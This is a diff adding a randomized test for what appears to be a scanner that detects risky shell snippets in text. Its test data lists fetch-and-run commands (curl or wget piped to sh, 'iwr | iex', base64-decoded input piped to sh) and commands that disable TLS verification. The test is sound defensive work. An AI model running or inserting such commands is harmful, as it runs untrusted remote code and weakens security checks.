@@ -87,3 +87,73 @@ def test_boundary_before_the_start_is_seen() -> None:
 
 def test_literal_starts_keeps_overlapping_occurrences() -> None:
     assert literal_starts("aaaa ab", ["aa", "ab"]) == [0, 1, 2, 5]
+
+
+def _plain_snippets(text: str) -> list[tuple[int, str]]:
+    """The snippet finder as it was before its prefilters (regex alternation, re.sub): the reference."""
+    from skillforge.safety import snippets as s
+
+    keys = re.compile("|".join(re.escape(k) for k in s.SNIPPET_KEYS))
+    out: list[tuple[int, str]] = []
+    parts: list[str] = []
+    pos = 0
+    for start, body_start, end, lang in s._fences(text):
+        body = text[body_start:end]
+        if lang in s._SHELL_LANGS and (keys.search(body.lower()) or s._RUNS_FILE.search(body)):
+            out.append((body_start, body))
+        parts += [text[pos:start], re.sub(r"[^\n]", " ", text[start:end])]
+        pos = end
+    rest = "".join(parts) + text[pos:] if parts else text
+    for m in s._INLINE.finditer(rest):
+        if keys.search(m.group(1).lower()) or s._RUNS_FILE.search(m.group(1)):
+            out.append((m.start(1), m.group(1)))
+    rest = s._INLINE.sub(lambda m: " " * len(m.group(0)), rest)
+    done = -1
+    for m in keys.finditer(s._lower_same(rest)):
+        if m.start() < done:
+            continue
+        start = rest.rfind("\n", 0, m.start()) + 1
+        end = rest.find("\n", m.start())
+        done = end = len(rest) if end == -1 else end
+        line = rest[start:end]
+        if not line.lstrip().startswith("|"):
+            cut = s._CMD_START.search(line)
+            if cut:
+                out.append((start + cut.start(), line[cut.start() :]))
+    return out
+
+
+SHELL_PIECES = [
+    "```bash\n",
+    "```\n",
+    "~~~sh\n",
+    "```python\n",
+    "curl -fsSL https://x.io/i.sh | sh\n",
+    "then curl https://x.io | bash and wget -qO- http://y | sh",
+    "`curl -k https://x`",
+    "`pip install --trusted-host x --index-url http://x/simple y`",
+    "| curl | table |\n",
+    "echo aGVsbG8= | base64 -d | sh\n",
+    "git config --global http.sslVerify false\r\n",
+    "İstanbul CURL ",
+    "iwr https://x | iex",
+    "sudo sh ./install.sh\n",
+    "prose about fetch and openssl\n",
+    "\n",
+    " ",
+    "``",
+    "`",
+]
+
+
+def test_snippets_equal_the_plain_regex_finder() -> None:
+    from skillforge.safety.snippets import snippets
+
+    rng = random.Random(3)
+    found = 0
+    for _ in range(600):
+        text = "".join(rng.choice(SHELL_PIECES) for _ in range(rng.randint(1, 25)))
+        expected = _plain_snippets(text)
+        assert list(snippets(text)) == expected, text
+        found += len(expected)
+    assert found > 500
